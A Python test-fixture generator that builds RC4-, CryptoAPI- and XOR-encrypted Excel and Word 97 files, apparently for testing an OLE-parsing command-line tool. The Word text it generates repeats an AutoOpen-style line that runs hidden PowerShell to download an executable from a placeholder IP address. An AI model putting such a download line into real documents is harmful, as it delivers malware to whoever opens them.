#!/usr/bin/python3
# Builds an Excel 97-2003 workbook encrypted with RC4 ([MS-XLS] 2.4.117
# FilePass, [MS-OFFCRYPTO] 2.3.5 RC4 CryptoAPI or 2.3.6 Office 97 RC4) from a
# plain BIFF8 .xls, for tests/cli/test_ole.sh:
#   make_encrypted_xls.py PLAIN.xls PASSWORD OUT MODE
# MODE: "cryptoapi" (40-bit key, SHA-1), "rc4" (MD5), "cut" (cryptoapi with
# the FILEPASS record cut to 10 bytes: a garbled record), "xor" (XOR
# obfuscation method 1, [MS-OFFCRYPTO] 2.3.7, BIFF8), "xor5" (the same on a
# BIFF5 workbook's Book stream, FILEPASS without wEncryptionType); "doc-cryptoapi",
# "doc-rc4": a Word 97 document instead (PLAIN unused: a WordDocument
# stream of a FIB base and text, fEncrypted, the 1Table stream starting
# with the encryption header, the rest of WordDocument encrypted, rekeyed
# every 512 bytes, [MS-DOC] 2.2.6.2); its plain WordDocument, as
# msoffcrypto-tool writes it decrypted, goes to OUT.plain (for a workbook:
# its Workbook or Book stream decrypted, FILEPASS blanked). A FILEPASS record
# is inserted after the first BOF (the BoundSheet8 offsets moved by its
# size), the records after it encrypted as 2.2.10 says (record headers,
# BOF, BoundSheet8's lbPlyPos... in clear; the key stream rekeyed every 1024
# bytes of the stream). Keys are derived here with hashlib as the
# specification says, RC4 is python3-cryptography's (another implementation
# than artifact's); the stream is written alone in a minimal compound file.
# SPDX-License-Identifier: Apache-2.0
import hashlib, os, struct, sys

import olefile
from cfb_write import write_cfb
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms

plain, password, out, mode = sys.argv[1:5]
doc = mode.startswith("doc-")
mode = mode[4:] if doc else mode
xor = mode in ("xor", "xor5")
sname = "Book" if mode == "xor5" else "Workbook"
wb = b"" if doc else olefile.OleFileIO(plain).openstream(sname).read()
pw = password.encode("utf-16-le")
salt = os.urandom(16)
cryptoapi = mode in ("cryptoapi", "cut")

if cryptoapi:
    h0 = hashlib.sha1(salt + pw).digest()

    def key(block):
        return hashlib.sha1(h0 + struct.pack("<I", block)).digest()[:5] + b"\0" * 11
else:
    t = hashlib.md5(pw).digest()[:5]
    h1 = hashlib.md5((t + salt) * 16).digest()[:5]

    def key(block):
        return hashlib.md5(h1 + struct.pack("<I", block)).digest()


def rc4(k, b):
    return Cipher(algorithms.ARC4(k), mode=None).encryptor().update(b)


# XOR obfuscation method 1 ([MS-OFFCRYPTO] 2.3.7.1-2.3.7.4): the
# password's bytes, its 16-bit verifier and key, the 16-byte array
XOR_INITIAL = [0xE1F0, 0x1D0F, 0xCC9C, 0x84C0, 0x110C, 0x0E10, 0xF1CE, 0x313E,
               0x1872, 0xE139, 0xD40F, 0x84F9, 0x280C, 0xA96A, 0x4EC3]
XOR_MATRIX = [
    0xAEFC, 0x4DD9, 0x9BB2, 0x2745, 0x4E8A, 0x9D14, 0x2A09, 0x7B61, 0xF6C2, 0xFDA5,
    0xEB6B, 0xC6F7, 0x9DCF, 0x2BBF, 0x4563, 0x8AC6, 0x05AD, 0x0B5A, 0x16B4, 0x2D68,
    0x5AD0, 0x0375, 0x06EA, 0x0DD4, 0x1BA8, 0x3750, 0x6EA0, 0xDD40, 0xD849, 0xA0B3,
    0x5147, 0xA28E, 0x553D, 0xAA7A, 0x44D5, 0x6F45, 0xDE8A, 0xAD35, 0x4A4B, 0x9496,
    0x390D, 0x721A, 0xEB23, 0xC667, 0x9CEF, 0x29FF, 0x53FE, 0xA7FC, 0x5FD9, 0x47D3,
    0x8FA6, 0x0F6D, 0x1EDA, 0x3DB4, 0x7B68, 0xF6D0, 0xB861, 0x60E3, 0xC1C6, 0x93AD,
    0x377B, 0x6EF6, 0xDDEC, 0x45A0, 0x8B40, 0x06A1, 0x0D42, 0x1A84, 0x3508, 0x6A10,
    0xAA51, 0x4483, 0x8906, 0x022D, 0x045A, 0x08B4, 0x1168, 0x76B4, 0xED68, 0xCAF1,
    0x85C3, 0x1BA7, 0x374E, 0x6E9C, 0x3730, 0x6E60, 0xDCC0, 0xA9A1, 0x4363, 0x86C6,
    0x1DAD, 0x3331, 0x6662, 0xCCC4, 0x89A9, 0x0373, 0x06E6, 0x0DCC, 0x1021, 0x2042,
    0x4084, 0x8108, 0x1231, 0x2462, 0x48C4]
XOR_PAD = [0xBB, 0xFF, 0xFF, 0xBA, 0xFF, 0xFF, 0xB9, 0x80, 0x00, 0xBE, 0x0F, 0x00, 0xBF, 0x0F, 0x00]


def xor_setup(password):
    p = [c & 0xFF or c >> 8 for c in map(ord, password)][:15]
    v = 0
    for b in reversed([len(p)] + p):
        v = (((v >> 14) & 1) | ((v << 1) & 0x7FFF)) ^ b
    v ^= 0xCE4B
    k, e = XOR_INITIAL[len(p) - 1], 104
    for c in reversed(p):
        for _ in range(7):
            if c & 0x40:
                k ^= XOR_MATRIX[e]
            c, e = c << 1, e - 1
    ror = lambda a, b: (((a ^ b) >> 1) | ((a ^ b) << 7)) & 0xFF
    arr, i = [0] * 16, len(p)
    if i % 2:
        arr[i] = ror(XOR_PAD[0], k >> 8)
        i -= 1
        arr[i] = ror(p[-1], k & 0xFF)
    while i > 0:
        i -= 1
        arr[i] = ror(p[i], k >> 8)
        i -= 1
        arr[i] = ror(p[i], k & 0xFF)
    i, pi = 15, 15 - len(p)
    while pi > 0:
        arr[i] = ror(XOR_PAD[pi], k >> 8)
        i, pi = i - 1, pi - 1
        arr[i] = ror(XOR_PAD[pi], k & 0xFF)
        i, pi = i - 1, pi - 1
    return k, v, arr


verifier = os.urandom(16)
vhash = (hashlib.sha1 if cryptoapi else hashlib.md5)(verifier).digest()
ev = rc4(key(0), verifier + vhash)
if cryptoapi:
    csp = "Microsoft Base Cryptographic Provider v1.0\0".encode("utf-16-le")
    header = struct.pack("<IIIIIIII", 4, 0, 0x6801, 0x8004, 40, 1, 0, 0) + csp
    body = (struct.pack("<HHH", 1, 2, 2) + struct.pack("<II", 4, len(header)) + header +
            struct.pack("<I", 16) + salt + ev[:16] + struct.pack("<I", 20) + ev[16:])
else:
    body = struct.pack("<HHH", 1, 1, 1) + salt + ev
if xor:
    xkey, xver, xarr = xor_setup(password)
    body = (b"" if mode == "xor5" else struct.pack("<H", 0)) + struct.pack("<HH", xkey, xver)
filepass = struct.pack("<HH", 0x2F, len(body)) + body
if mode == "cut":
    filepass = struct.pack("<HH", 0x2F, 10) + body[:10]



if doc:
    header = body[2:]  # the FILEPASS body after wEncryptionType
    # FibBase: wIdent, nFib, unused, lid, pnNext, flags (fEncrypted 0x100,
    # fWhichTblStm 0x200), nFibBack, lKey, envr..., then text
    text = ("Sub AutoOpen()\r Shell \"powershell -w hidden iwr http://198.51.100.7/x.exe\"\r"
            "End Sub\r").encode("utf-16-le") * 40
    fib = struct.pack("<HHHHHHHI", 0xA5EC, 0xC1, 0, 0x0409, 0, 0x0100 | 0x0200, 0xBF, len(header))
    fib = fib.ljust(68, b"\0")
    wd = bytearray(fib + text)
    plain_wd = bytearray(wd)
    plain_wd[10:12] = struct.pack("<H", 0x0200)
    plain_wd[14:18] = b"\0" * 4
    ks = b"".join(rc4(key(k), bytes(512)) for k in range(len(wd) // 512 + 1))
    for o in range(68, len(wd)):
        wd[o] ^= ks[o]
    table = header + b"\0" * (4096 - len(header))
    write_cfb(out, [("1Table", table, len(table)), ("WordDocument", bytes(wd), len(wd))])
    open(out + ".plain", "wb").write(bytes(plain_wd))
    sys.exit(0)

# the records, FILEPASS after the first BOF, lbPlyPos moved by its size
recs, i = [], 0
while i + 4 <= len(wb):
    rid, rl = struct.unpack_from("<HH", wb, i)
    recs.append([rid, bytearray(wb[i + 4:i + 4 + rl])])
    i += 4 + rl
for r in recs:
    if r[0] == 0x85:
        r[1][0:4] = struct.pack("<I", struct.unpack_from("<I", r[1])[0] + len(filepass))
stream = bytearray(4 + len(recs[0][1]))
stream[0:4] = struct.pack("<HH", recs[0][0], len(recs[0][1]))
stream[4:] = recs[0][1]
stream += filepass
clear = {0x0809: None, 0x002F: None, 0x0194: None, 0x0195: None, 0x00E1: None,
         0x0196: None, 0x0138: None, 0x0085: 4}
stream_keys = {}
for rid, data in recs[1:]:
    off = len(stream) + 4
    stream += struct.pack("<HH", rid, len(data)) + data
    if rid in clear and clear[rid] is None:
        continue
    start = off + (clear.get(rid) or 0)
    if xor:
        # [MS-XLS] 2.2.10: each byte rotated right by 3 bits (5 left), then
        # XORed with the array at (its stream offset + the record size) mod 16
        for o in range(start, off + len(data)):
            b = stream[o]
            stream[o] = (((b << 5) | (b >> 3)) & 0xFF) ^ xarr[(o + len(data)) % 16]
        continue
    for o in range(start, off + len(data)):
        if o // 1024 not in stream_keys:
            stream_keys[o // 1024] = rc4(key(o // 1024), bytes(1024))
        stream[o] ^= stream_keys[o // 1024][o % 1024]
stream += b"\0" * (4096 - len(stream)) if len(stream) < 4096 else b""

write_cfb(out, [(sname, bytes(stream), len(stream))])
# the stream decrypted, FILEPASS blanked to a record of type 0 (as
# msoffcrypto-tool writes an RC4 workbook decrypted)
i = 4 + len(recs[0][1])
plain_stream = bytearray(stream)
plain_stream[i:i + len(filepass)] = b"\0\0" + filepass[2:4] + b"\0" * (len(filepass) - 4)
i += len(filepass)
for rid, data in recs[1:]:
    plain_stream[i + 4:i + 4 + len(data)] = data
    i += 4 + len(data)
open(out + ".plain", "wb").write(bytes(plain_stream))
